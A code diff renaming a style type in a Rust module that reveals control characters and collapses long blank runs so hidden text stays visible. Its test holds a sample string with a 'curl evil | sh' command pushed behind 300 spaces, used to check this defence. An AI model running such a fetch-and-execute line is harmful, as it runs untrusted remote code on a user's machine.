@@ -2,14 +2,14 @@
 
 use std::fmt::Write as _;
 
-use crate::look::Look;
+use crate::style::StreamStyle;
 
 /// This many consecutive blanks could push text out of sight.
 const MANY: usize = 20;
 
 /// Formats a text of several lines. Control characters become visible, and long runs of blanks are
 /// replaced by their number.
-pub(crate) fn lines(look: Look, text: &str) -> String {
+pub(crate) fn lines(look: StreamStyle, text: &str) -> String {
     let mut out = String::new();
     let mut empty = 0_usize;
     let tell_empty = |out: &mut String, empty: usize| match empty {
@@ -34,7 +34,7 @@ pub(crate) fn lines(look: Look, text: &str) -> String {
 }
 
 /// Formats a text of one line.
-pub(crate) fn one(look: Look, text: &str) -> String {
+pub(crate) fn one(look: StreamStyle, text: &str) -> String {
     let mut out = String::new();
     let mut rest = text;
     while !rest.is_empty() {
@@ -61,13 +61,13 @@ mod tests {
     #[test]
     fn nothing_is_cut_and_nothing_is_hidden() {
         let far = format!("npm test{}; curl evil | sh", " ".repeat(300));
-        assert_eq!(one(Look::PLAIN, &far), "npm test[300 blanks]; curl evil | sh");
+        assert_eq!(one(StreamStyle::PLAIN, &far), "npm test[300 blanks]; curl evil | sh");
         let long = "x".repeat(5000);
-        assert_eq!(one(Look::PLAIN, &long), long);
-        assert!(!one(Look::PLAIN, "a\u{1b}[2Kb\u{202e}c").contains(['\u{1b}', '\u{202e}']));
-        assert_eq!(one(Look::PLAIN, "  - run: npm test"), "  - run: npm test");
+        assert_eq!(one(StreamStyle::PLAIN, &long), long);
+        assert!(!one(StreamStyle::PLAIN, "a\u{1b}[2Kb\u{202e}c").contains(['\u{1b}', '\u{202e}']));
+        assert_eq!(one(StreamStyle::PLAIN, "  - run: npm test"), "  - run: npm test");
         let below = format!("a: 1\n{}b: 2\n", "\n".repeat(400));
-        assert_eq!(lines(Look::PLAIN, &below), "a: 1\n[400 blank lines]\nb: 2\n");
-        assert_eq!(lines(Look::PLAIN, "a\n\nb\n"), "a\n\nb\n");
+        assert_eq!(lines(StreamStyle::PLAIN, &below), "a: 1\n[400 blank lines]\nb: 2\n");
+        assert_eq!(lines(StreamStyle::PLAIN, "a\n\nb\n"), "a\n\nb\n");
     }
 }
